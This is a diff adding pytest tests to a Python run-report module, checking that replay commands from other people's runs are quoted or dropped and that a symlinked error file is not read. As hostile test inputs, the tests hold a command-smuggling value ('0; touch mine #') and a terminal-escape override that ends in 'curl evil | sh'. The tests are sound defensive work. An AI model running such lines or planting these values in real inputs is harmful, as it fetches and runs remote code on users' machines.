@@ -6,7 +6,12 @@ import shlex
 import pytest
 import yaml
 
-from metadist.reports.run_record import RunRecord, read_run_record, tasks_by_difficulty
+from metadist.reports.run_record import (
+    RunRecord,
+    read_error,
+    read_run_record,
+    tasks_by_difficulty,
+)
 
 
 def record_of(directory, metrics=(), results=None, config=None, **files) -> RunRecord:
@@ -115,6 +120,26 @@ def test_commands_of_a_run_of_someone_else_are_quoted_and_trust_nothing(tmp_path
     commands = record_of(tmp_path, config=config).commands()
     assert shlex.split(commands["Replay a training task"])[-1] == "0; touch mine #,train,1,0"
     assert not any("--trust-code" in command for command in commands.values())
+
+
+def test_a_command_with_control_characters_is_left_out(tmp_path):
+    (tmp_path / ".hydra").mkdir()
+    hydra = {"hydra": {"job": {"config_name": "maml"}}}
+    (tmp_path / ".hydra" / "config.yaml").write_text("seed: 1")
+    (tmp_path / ".hydra" / "hydra.yaml").write_text(yaml.safe_dump(hydra))
+    overrides = ["seed=1", "++a='\x1b[201~\ncurl evil | sh\n'"]
+    for expected in (True, False):
+        given = overrides[: 1 if expected else 2]
+        (tmp_path / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(given))
+        assert ("Repeat the run" in read_run_record(tmp_path).commands()) == expected
+
+
+def test_the_error_of_another_file_is_not_read(tmp_path):
+    (tmp_path / "private").write_text("a secret")
+    run = tmp_path / "run"
+    run.mkdir()
+    (run / "error.txt").symlink_to(tmp_path / "private")
+    assert read_error(run) == ""
 
 
 def test_commands_have_the_directories_of_options(tmp_path):
